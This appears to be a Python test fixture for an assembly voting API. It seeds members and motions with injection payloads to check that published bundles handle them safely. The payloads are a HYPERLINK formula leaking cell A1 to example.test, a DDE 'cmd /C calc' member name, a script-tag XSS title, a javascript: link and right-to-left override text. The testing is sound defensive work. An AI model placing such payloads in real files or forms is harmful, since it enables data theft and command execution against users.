# SPDX-License-Identifier: EUPL-1.2
"""An assembly in which everything happened that a bundle must get right."""
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "api"))
from hall import Hall  # noqa: E402

__unittest = True

FORMULA = '=HYPERLINK("http://example.test/?"&A1,"klik")'
SCRIPT = '<script>alert("1")</script> & co, [x](javascript:1) *ster* \\'
ARABIC = "\u202eגדול\u200f motie; \"quoted\", en verder"
MEMBERS = (("GM9001", "municipality", "Voorbeeldstad 1", 1000),
           ("GM9002", "municipality", '+cmd|\' /C calc\'!A0', 2000),
           ("GM9003", "municipality", "Súdwest-Voorbeeld", 3000),
           ("GM9004", "municipality", "'s-Voorbeeldhage", 4000),
           ("GM9005", "municipality", "@Voorbeeldeiland", 50),
           ("GW91", "region", "Voorbeeldgewest 1", 250000))
VOTES = {"GM9001": "for", "GM9002": "against", "GM9003": "for",
         "GM9004": "for", "GM9005": "abstain"}
PUBLISHED = ("closed", "declared", "certified", "published")


def annul(hall, number, reason="De uitslag is betwist"):
    hall.try_move(number, "annulled", reason=reason)
    hall.try_move(number, "annulled", "committee")


def declare(hall, number, member, meant):
    """The operator notes what a member says that it had meant."""
    hall.op.ok("POST", f"/v1/rounds/{number}/corrections",
               {"member": member, "meant": meant})


def held_round(hall, motion, votes=VOTES, moves=PUBLISHED, sequence=1, **terms):
    number = hall.round(motion, **terms)
    hall.vote(number, votes, sequence)
    hall.move_round(number, *moves)
    return number


class Scene:
    """hall; motions and rounds by what they are for."""

    def __init__(self, server, **fields):
        self.hall = hall = Hall(server, members=MEMBERS,
                                title="Vergadering " + SCRIPT, **fields)
        self.motion, self.round = {}, {}
        self.sequence = 0
        self.add("plain", kind="proposal", title="Contributie 2027",
                 boardAdvice="adopt", text="Eerste regel\n# Tweede regel")
        self.hold("plain", moves=PUBLISHED[:1])
        declare(hall, self.round["plain"], "GM9002", "abstain")
        declare(hall, self.round["plain"], "GM9002", "for")
        declare(hall, self.round["plain"], "GM9001", "against")
        declare(hall, self.round["plain"], "GM9001", "for")  # after all
        hall.move_round(self.round["plain"], *PUBLISHED[1:])
        self.add("formula", kind="motion", title=FORMULA, movers=["GM9003"])
        self.hold("formula", majority="two-thirds")
        self.add("arabic", kind="appointment", title=ARABIC)
        self.hold("arabic", {"GM9001": "for"}, abstain=False)
        self.add("named", kind="proposal", title="Kleur van de map")
        self.hold("named", {"GM9001": "rood", "GM9004": "=blauw",
                            "GM9002": "against-all"},
                  options=["rood", "=blauw"])
        self.add("twice", kind="minutes", title="Notulen")
        self.hold("twice", {"GM9004": "against"})
        self.round["annulled"] = self.round["twice"]
        annul(hall, self.round["annulled"])
        self.hold("twice", {"GM9004": "for"})
        self.add("held", kind="motion", title="Motie die blijft liggen")
        hall.op.ok("POST", f"/v1/motions/{self.motion['held']}/decisions",
                   {"outcome": "held"})
        self.add("pending", kind="proposal", title="Nog te behandelen")
        self.add("secret", kind="proposal", title="Stil voorstel")
        self.hold("secret", {"GM9002": "for", "GM9003": "against"},
                  moves=("closed", "declared", "certified"))
        self.add("practice", kind="practice", title="Oefenvraag over koffie")
        self.hold("practice", moves=("closed",))

    def add(self, name, **fields):
        self.motion[name] = self.hall.motion(**fields)

    def hold(self, name, votes=VOTES, **terms):
        self.sequence += 1
        self.round[name] = held_round(self.hall, self.motion[name], votes,
                                      sequence=self.sequence, **terms)
